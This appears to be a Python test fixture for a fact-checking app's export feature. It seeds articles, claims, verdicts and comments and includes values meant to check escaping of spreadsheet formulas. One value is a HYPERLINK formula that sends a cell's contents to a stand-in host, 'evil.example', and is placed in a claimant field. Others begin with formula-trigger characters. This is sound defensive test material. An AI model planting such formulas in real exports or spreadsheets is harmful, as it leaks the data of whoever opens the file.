"""A seeded desk for the export tests: two articles with claims in every state, verdicts,
sources, comments and cells a spreadsheet would take for formulas (`seed`, the `seeded` fixture
of tests/exports/conftest.py); more claims for the query counts (`add_claims`); the export as
text or JSON (`export_text`, `export_json`)."""

from __future__ import annotations

import json
from typing import Any

from annotations import services
from annotations.exports import streams
from annotations.models import Article, Claim, ClaimStatus, Team
from tests.factories import make_article

BASE = "http://testserver"
ORGANISATION = {
    "organisation_name": "Verification Desk Fact Check",
    "site_url": "https://verify.example.org/",
    "logo_url": "https://verify.example.org/logo.png",
    "public_url_pattern": "https://verify.example.org/fact-checks/{claim}",
}
PUBLIC_URL = "https://verify.example.org/fact-checks/troops-in-kursk"
UNICODE_TEXT = (
    "Zoë’s report 🙂\n\n"
    "Le ministre a déclaré que 40 % des troupes 🪖 avaient quitté la région lundi.\n\n"
    "Der Sprecher sagte: «Das stimmt nicht».\n\n"
    "=SUM(1,2) appeared in a spreadsheet caption."
)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def seed(desk) -> dict[str, Any]:
    """Two articles and claims in every state, with verdicts, sources, comments and edge cases."""
    team = desk.team
    kursk = make_article(team)
    Article.objects.filter(pk=kursk.pk).update(
        url="https://news.example.org/kursk", publisher="Example News", author="A. Writer"
    )
    kursk.refresh_from_db()
    zoe = make_article(team, text=UNICODE_TEXT, title="Zoë’s report")

    published = services.claim_create(
        article=kursk,
        actor=desk.reviewer,
        exact="11.000 North Korean soldiers",
        claimant="President Zelensky",
        summary="11,000 North Korean soldiers arrived in the Kursk region.",
        rating="false",
        rationale="The Pentagon counts 10,000.",
        sources=[
            {
                "url": "https://www.defense.example/briefing",
                "title": "Pentagon briefing",
                "publisher": "DoD",
                "excerpt": "about 10,000",
                "stance": "refutes",
                "accessed_at": "2024-11-02",
                "archived_url": "https://web.archive.org/web/2024/defense.example/briefing",
            },
            {"url": "https://news.example.org/other", "stance": "context"},
        ],
        tags=["military", "numbers"],
    )
    first_comment = services.comment_add(
        claim=published, actor=desk.editor, body="Check the date of the briefing."
    )
    services.comment_add(
        claim=published, actor=desk.reviewer, body="It was 2 November.", reply_to=first_comment
    )
    services.claim_transition(claim=published, actor=desk.reviewer, to=ClaimStatus.IN_REVIEW)
    services.claim_transition(claim=published, actor=desk.editor, to=ClaimStatus.APPROVED)
    services.team_publishing_update(team=team, actor=desk.admin, **ORGANISATION)
    services.claim_transition(
        claim=published, actor=desk.editor, to=ClaimStatus.PUBLISHED, public_url=PUBLIC_URL
    )
    team.refresh_from_db()

    disputed = services.claim_create(
        article=kursk,
        actor=desk.reviewer,
        exact="10.000 North Korean soldiers",
        claimant="The Pentagon",
        summary="There are 10,000 North Korean soldiers in the Kursk region.",
        rating="mostly-true",
        rationale="Matches other estimates.",
    )
    services.verdict_set(claim=disputed, actor=desk.editor, rating="true", rationale="First.")
    services.verdict_set(claim=disputed, actor=desk.editor, rating="half-true", rationale="Later.")
    services.claim_transition(claim=disputed, actor=desk.reviewer, to=ClaimStatus.IN_REVIEW)

    approved = services.claim_create(
        article=zoe,
        actor=desk.editor,
        exact="40 % des troupes 🪖",
        claimant="Le ministre",
        summary="40 % des troupes ont quitté la région.",
        rating="misleading",
        rationale="Percent of which troops?",
    )
    services.claim_transition(claim=approved, actor=desk.editor, to=ClaimStatus.IN_REVIEW)
    services.claim_transition(claim=approved, actor=desk.editor, to=ClaimStatus.APPROVED)

    injection = services.claim_create(
        article=zoe,
        actor=desk.reviewer,
        exact="=SUM(1,2)",
        claimant=HYPERLINK,
        summary="+1",
        rating="false",
        rationale="-2 is the rationale",
        sources=[{"url": "https://example.org/@SUM"}],
    )
    minus = services.claim_create(
        article=zoe, actor=desk.reviewer, exact="Das stimmt nicht", claimant="@SUM(A1:A2)"
    )
    services.claim_update(claim=minus, actor=desk.reviewer, summary="-2")
    tab = services.claim_create(
        article=zoe, actor=desk.reviewer, exact="Der Sprecher", claimant="\tTab", summary="\rCR"
    )
    # An orphaned claim (its quote lost in a revision): kept, without a position.
    orphan = services.claim_create(article=kursk, actor=desk.reviewer, exact="Troops in Kursk")
    Claim.objects.filter(pk=orphan.pk).update(anchor="orphaned", start=None, end=None)
    kursk.assignees.add(desk.editor, desk.reviewer)
    disputed.assignees.add(desk.editor)
    return {
        "kursk": kursk,
        "zoe": zoe,
        "published": published,
        "disputed": disputed,
        "approved": approved,
        "injection": injection,
        "minus": minus,
        "tab": tab,
        "orphan": orphan,
    }


def export_text(team: Team, fmt: str, article: Article | None = None) -> str:
    return "".join(streams.FORMATS[fmt].stream(team, article=article, base_url=BASE))


def export_json(team: Team, article: Article | None = None) -> dict[str, Any]:
    return json.loads(export_text(team, "json", article))


def add_claims(desk, article: Article, count: int) -> None:
    """`count` more claims with a verdict, a source and a comment each."""
    text = article.text
    for index in range(count):
        start = index % (len(text) - 20)
        claim = services.claim_create(
            article=article,
            actor=desk.reviewer,
            start=start,
            end=start + 10,
            claimant=f"Speaker {index}",
            summary=f"Claim {index}",
            rating="false",
            rationale="No.",
            sources=[{"url": f"https://example.org/{index}"}],
        )
        services.comment_add(claim=claim, actor=desk.editor, body="Seen.")
        if index % 2:
            services.claim_transition(claim=claim, actor=desk.reviewer, to="in_review")
            services.claim_transition(claim=claim, actor=desk.editor, to="approved")
